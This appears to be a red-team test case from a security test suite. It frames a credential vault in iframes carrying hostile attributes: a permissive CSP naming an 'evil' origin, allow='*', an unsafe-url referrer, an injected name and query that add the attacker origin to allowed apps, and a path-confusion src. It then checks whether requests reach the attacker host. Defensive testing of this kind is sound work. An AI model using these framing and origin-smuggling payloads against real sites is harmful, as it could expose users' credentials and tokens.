// A real attacker: frames the vault with everything an `iframe` can be told that changes what its document may do: another policy,
// no credentials, other permissions, another referrer, a name, a hash, a query.
export default {
  row: "frames",
  expected: [null, "loses"],
  after: async ({ vault, api, evil }, redteam) => {
    const urls = [`${api}/v1/me`, `${evil}/v1/me`, `${vault}/auth/refresh`];
    const widened = JSON.stringify({ apps: [evil], resources: [{ origin: evil }] });
    const heard = [
      ["csp", `script-src 'unsafe-inline' ${evil}; connect-src *`],
      ["csp", "worker-src 'none'; connect-src 'none'"],
      ["credentialless", ""],
      ["allow", "*"],
      ["referrerpolicy", "unsafe-url"],
      ["name", widened],
      ["src", `${vault}/?${encodeURIComponent(widened)}#${encodeURIComponent(widened)}`],
      ["src", `${vault}//${new URL(evil).host}/..//`],
    ].map(([name, value]) => {
      const { far, heard, ask } = redteam.channel();
      const ports = [far];
      const frame = document.createElement("iframe");
      frame.src = `${vault}/`;
      frame.setAttribute(name, value);
      addEventListener("message", ({ source }) => {
        if (source === frame.contentWindow) source.postMessage("strongroom:port", vault, ports.splice(0));
      });
      document.body.append(frame);
      urls.forEach(ask);
      return heard;
    });
    await redteam.until(() => heard.filter((kinds) => kinds.length >= urls.length).length >= 4, 8000);
    await redteam.wait(500);
    return heard.map((kinds) => kinds.length);
  },
  // Each was asked for, and some serve the page as the application's own vault does: with the same list.
  reached: ({ brought, seen }) =>
    seen.filter(({ name, headers }) => name === "vault" && headers["sec-fetch-dest"] === "iframe").length >=
      8 && brought.some((count) => count >= 3),
};
